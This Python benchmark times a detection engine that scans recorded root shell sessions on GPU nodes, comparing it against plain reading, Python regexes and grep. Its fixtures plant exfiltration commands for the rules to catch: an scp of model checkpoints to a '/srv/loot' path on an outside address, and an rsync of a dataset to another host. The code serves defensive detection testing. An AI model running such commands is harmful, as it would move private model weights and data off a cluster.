"""The detection benchmark's session part: GB of output in finished recordings read through
the rules, against merely reading them, the engine alone, Python's re alone and grep -E
(bench/detect_bench.py)."""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import statistics
import subprocess
import threading
import time
from collections import Counter
from datetime import timedelta
from pathlib import Path
from typing import Any

from bench.detect_data import NODES, fresh_app, make_settings, node, pct
from broker.app import App
from broker.core.timeutil import utcnow
from broker.detect.content import ContentMatcher
from broker.policy.detection_rules import DEFAULT
from broker.sessions import iolog

COMMANDS = ("ls -la", "df -h /data", "nvidia-smi", "tail -n 50 train.log", "du -sh run7",
            "cat /proc/meminfo", "systemctl status slurmd", "journalctl -u slurmd -n 20",
            "free -g", "ps aux --sort=-%mem", "ip -br a", "lsblk")  # fmt: skip
EXFIL_LINE = b"scp /data/checkpoints/run%d/step-9000.pt eve@203.0.113.9:/srv/loot/\r"
INSTALL_LINE = b"apt-get install -y htop\r"
DEEP_LINE = b"root@gpu0032:~# rsync -a /data/datasets/imagenet/ backup01:/srv/\r\n"
BLOCK = 1 << 20
WRITE = 4096  # bytes per timing entry, as a busy terminal writes
RE_SAMPLE = 64 << 20  # Python's re, the engine before Hyperscan, is timed on this much
GOAL_SESSION_MBS = 300.0


def output_lines(rng: random.Random) -> list[bytes]:
    """Lines a root shell on a GPU node shows: training logs, ls, nvidia-smi, kernel and
    slurmd messages, NCCL chatter, prompts with the commands echoed."""
    lines = []
    for _ in range(4000):
        k = rng.randrange(8)
        n, pid = rng.randint(1, NODES), rng.randint(1000, 4_000_000)
        step = rng.randrange(0, 200_000, 50)
        if k == 0:
            line = (
                f"[2026-11-23 {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:"
                f"{rng.randint(0, 59):02d}] epoch {rng.randint(0, 90)} step {step} loss "
                f"{rng.random() * 4:.4f} lr {rng.random() * 1e-3:.2e} grad_norm "
                f"{rng.random() * 9:.3f} tokens/s {rng.randint(10_000, 900_000)}"
            )
        elif k == 1:
            line = (
                f"Saved checkpoint to /data/checkpoints/run{rng.randint(1, 40)}/step-{step}.pt"
                f" ({rng.randint(100, 90_000)} MiB) in {rng.random() * 60:.1f}s"
            )
        elif k == 2:
            line = (
                f"-rw-r--r-- 1 root root {rng.randint(0, 10**11):>12} Nov 23 "
                f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d} "
                f"\x1b[01;32mstep-{step}.pt\x1b[0m"
            )
        elif k == 3:
            line = (
                f"|   {rng.randint(0, 7)}  NVIDIA H100 80GB HBM3          On  | "
                f"00000000:{rng.randint(0, 255):02X}:00.0 Off |                    0 |"
            )
        elif k == 4:
            line = (
                f"[{rng.random() * 10**6:>12.6f}] mlx5_core 0000:{rng.randint(0, 255):02x}:00.0:"
                f" mlx5_fw_tracer_handle_traces:{rng.randint(100, 900)}: FW tracer event"
                f" 0x{rng.getrandbits(32):08x}"
            )
        elif k == 5:
            line = (
                f"Nov 23 {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:"
                f"{rng.randint(0, 59):02d} {node(n)} slurmd[{pid}]: launch task StepId="
                f"{rng.randint(10**5, 10**7)}.0 request from UID:{rng.randint(1000, 60000)}"
                f" GID:{rng.randint(1000, 60000)} HOST:10.1.{rng.randint(0, 255)}."
                f"{rng.randint(0, 255)} PORT:{rng.randint(1024, 65535)}"
            )
        elif k == 6:
            line = (
                f"\x1b[01;31mroot@{node(n)}\x1b[00m:\x1b[01;34m/data/checkpoints\x1b[00m# "
                f"{rng.choice(COMMANDS)}"
            )
        else:
            rank = rng.randint(0, 63)
            line = (
                f"{node(n)}:{pid}:{pid + rng.randint(1, 90)} [{rank % 8}] NCCL INFO Channel"
                f" {rng.randint(0, 31):02d}/32 : {rank} -> {(rank + 1) % 64} via P2P/IPC/read"
            )
        lines.append(line.encode())
    rules = [r.regex for r in DEFAULT.rules.values() if r.regex is not None]
    return [line for line in lines if not any(rx.search(line) for rx in rules)]


def output_blocks(rng: random.Random, count: int = 16) -> list[bytes]:
    lines = output_lines(rng)
    blocks = []
    for _ in range(count):
        chosen = rng.choices(lines, k=BLOCK // 60)
        block = b"\r\n".join(chosen) + b"\r\n"
        blocks.append(block[:BLOCK])
    return blocks


def log_json(n: int, *, done: bool, pipe: bool = False) -> dict[str, Any]:
    data: dict[str, Any] = {
        "timestamp": {"seconds": int(time.time()) - 3600, "nanoseconds": 0},
        "submituser": f"u{n:04d}", "runuser": "root", "submithost": node(n),
        "command": "/usr/bin/python3" if pipe else "/usr/bin/bash",
        "runargv": ["python3", "train.py", "--resume"] if pipe else ["-bash"],
        "runcwd": "/root", "columns": 200, "lines": 50,
    }  # fmt: skip
    if not pipe:
        data["ttyname"] = "/dev/pts/3"
    if done:
        data["run_time"] = {"seconds": 3500, "nanoseconds": 0}
        data["exit_value"] = 0
    return data


def write_recording(
    root: Path, n: int, size: int, blocks: list[bytes], rng: random.Random
) -> tuple[int, list[str]]:
    """A finished recording of `size` output bytes; returns (bytes written, planted rules)."""
    rid = f"{n:06d}"
    path = root / iolog.seq_path(rid)
    path.mkdir(parents=True)
    pipe = n % 8 == 5
    planted: list[str] = []
    timing: list[str] = []
    if not pipe:
        typed = [f"{rng.choice(COMMANDS)}\r".encode() for _ in range(12)]
        if n % 16 == 3:
            typed.insert(6, EXFIL_LINE % n)
            planted.append("exfiltration")
        if n % 32 == 7:
            typed.insert(3, INSTALL_LINE)
            planted.append("software-install")
        (path / "ttyin").write_bytes(b"".join(typed))
        timing += [f"3 {rng.random() * 3:.6f} {len(t)}" for t in typed]
    name, kind = ("stdout", 1) if pipe else ("ttyout", 4)
    written = 0
    deep = n == 32
    with open(path / name, "wb") as out:
        b = n
        while written < size:
            block = blocks[b % len(blocks)][: size - written]
            b += 1
            if deep and written >= size // 2:
                block, deep = DEEP_LINE + block, False
                planted.append("exfiltration")
            out.write(block)
            written += len(block)
    full, rest = divmod(written, WRITE)
    timing += [f"{kind} 0.{rng.randrange(10**6):06d} {WRITE}"] * full
    if rest:
        timing.append(f"{kind} 0.010000 {rest}")
    (path / "timing").write_text("\n".join(timing) + "\n")
    (path / "timing").chmod(0o400)
    (path / "log.json").write_text(json.dumps(log_json(n, done=True, pipe=pipe)))
    return written, sorted(set(planted))


class StallProbe:
    """A thread that asks to wake every millisecond, as the daemon's request threads wait
    on their sockets; how late it wakes is how long another thread held the GIL."""

    def __init__(self) -> None:
        self.late: list[float] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop.is_set():
            began = time.perf_counter()
            time.sleep(0.001)
            self.late.append(time.perf_counter() - began - 0.001)

    def __enter__(self) -> StallProbe:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join()


def session_rate(
    state: Path, store: Path
) -> tuple[float, int, int, list[tuple[str, str]], list[float]]:
    app = App(make_settings(state, store))
    total = passes = 0
    with StallProbe() as probe:
        began = time.perf_counter()
        while True:
            report = app.detection().run(utcnow())
            passes += 1
            total += report.bytes
            if report.bytes == 0 and report.recordings == 0:
                break
        took = time.perf_counter() - began
    alerts = app.ready_store().conn.execute("SELECT rule, recording_id FROM alerts").fetchall()
    app.close()
    return total / took / 1e6, total, passes, alerts, probe.late


def read_floor(files: list[Path]) -> tuple[float, float, float]:
    """MB/s of merely reading the files in 1 MiB chunks, of the engine alone over the same
    chunks (\\r -> \\n included, no store, no Python re), and of the rules' Python regexes
    alone (the detector before Hyperscan) over the first RE_SAMPLE bytes."""
    matcher = ContentMatcher([r for r in DEFAULT.rules.values() if r.kind == "session_match"])
    regexes = [r.regex for r in DEFAULT.rules.values() if r.regex is not None]

    def engine(text: bytes, kind: str) -> None:
        for _ in matcher.hits(kind, text.replace(b"\r", b"\n"), lambda _rule: True):
            pass

    def python_re(text: bytes, _kind: str) -> None:
        text = text.replace(b"\r", b"\n")
        for rx in regexes:
            rx.search(text)

    rates = []
    for judge, limit in ((None, None), (engine, None), (python_re, RE_SAMPLE)):
        total = 0
        began = time.perf_counter()
        for path in files:
            kind = "input" if path.name == "ttyin" else "output"
            fd = os.open(path, os.O_RDONLY)
            try:
                offset = 0
                while (limit is None or total + offset < limit) and (
                    data := os.pread(fd, BLOCK, offset)
                ):
                    offset += len(data)
                    if judge is not None:
                        judge(data, kind)
            finally:
                os.close(fd)
            total += offset
            if limit is not None and total >= limit:
                break
        rates.append(total / (time.perf_counter() - began) / 1e6)
    return rates[0], rates[1], rates[2]


def grep_rate(files: list[Path]) -> float | None:
    patterns = [p for r in DEFAULT.rules.values() if r.kind == "session_match" for p in r.patterns]
    argv = ["grep", "-E", "-c", *(a for p in patterns for a in ("-e", p)), *map(str, files)]
    total = sum(f.stat().st_size for f in files)
    began = time.perf_counter()
    done = subprocess.run(argv, capture_output=True, env={**os.environ, "LC_ALL": "C"})
    if done.returncode not in (0, 1):
        return None
    return total / (time.perf_counter() - began) / 1e6


def bench_sessions(args: argparse.Namespace, base: Path) -> dict[str, Any]:
    store = base / "iolog"
    store.mkdir()
    rng = random.Random(7)
    blocks = output_blocks(rng)
    per = int(args.gb * 1e9 / args.recordings)
    state = base / "sessions-state"
    app = fresh_app(state, store)
    app.detection().run(utcnow())  # detection begins; then the recordings arrive
    began = time.perf_counter()
    written, expected = 0, set()
    for n in range(1, args.recordings + 1):
        size, planted = write_recording(store, n, per, blocks, rng)
        written += size
        expected |= {(rule, f"{n:06d}") for rule in planted}
    wrote = time.perf_counter() - began
    began = time.perf_counter()
    indexed = app.session_indexer().run(utcnow() + timedelta(seconds=1))
    took = time.perf_counter() - began
    app.close()
    assert len(indexed.finished) == args.recordings, indexed
    files = sorted(p for p in store.rglob("*") if p.name in ("ttyin", "ttyout", "stdout"))
    print(
        f"built: {args.recordings} finished recordings, {written / 1e6:,.0f} MB of output"
        f" (written in {wrote:.1f} s), indexed in {took:.1f} s; page cache warm"
    )
    rates, alerts_seen = [], []
    for run in range(args.runs):
        work = base / f"sessions-run{run}"
        shutil.copytree(state, work)
        rate, total, passes, alerts, late = session_rate(work, store)
        shutil.rmtree(work)
        rates.append(rate)
        alerts_seen = alerts
        print(
            f"run {run + 1}: {total / 1e6:,.0f} MB through the rules in {passes} passes"
            f" = {rate:.1f} MB/s; {len(alerts)} alerts; another thread's 1 ms sleeps woke"
            f" late by median {statistics.median(late) * 1e3:.1f} ms, p99"
            f" {pct(late, 0.99) * 1e3:.0f} ms, max {max(late) * 1e3:.0f} ms"
        )
    raised = {(rule, rid) for rule, rid in alerts_seen}
    missing, extra = sorted(expected - raised), sorted(raised - expected)
    print(f"planted matches: {len(expected) - len(missing)} of {len(expected)} raised"
          f" ({', '.join(f'{r} {c}' for r, c in sorted(Counter(r for r, _ in raised).items()))}),"
          f" {len(extra)} unexpected")  # fmt: skip
    if missing or extra:
        print(f"MISSING {missing}  UNEXPECTED {extra}")
    read, engine, python_re = read_floor(files)
    grep = grep_rate(files)
    shutil.rmtree(state)
    shutil.rmtree(store)
    return {
        "bytes": written,
        "rate": statistics.median(rates),
        "read": read,
        "engine": engine,
        "python_re": python_re,
        "grep": grep,
        "missing": missing + extra,
    }
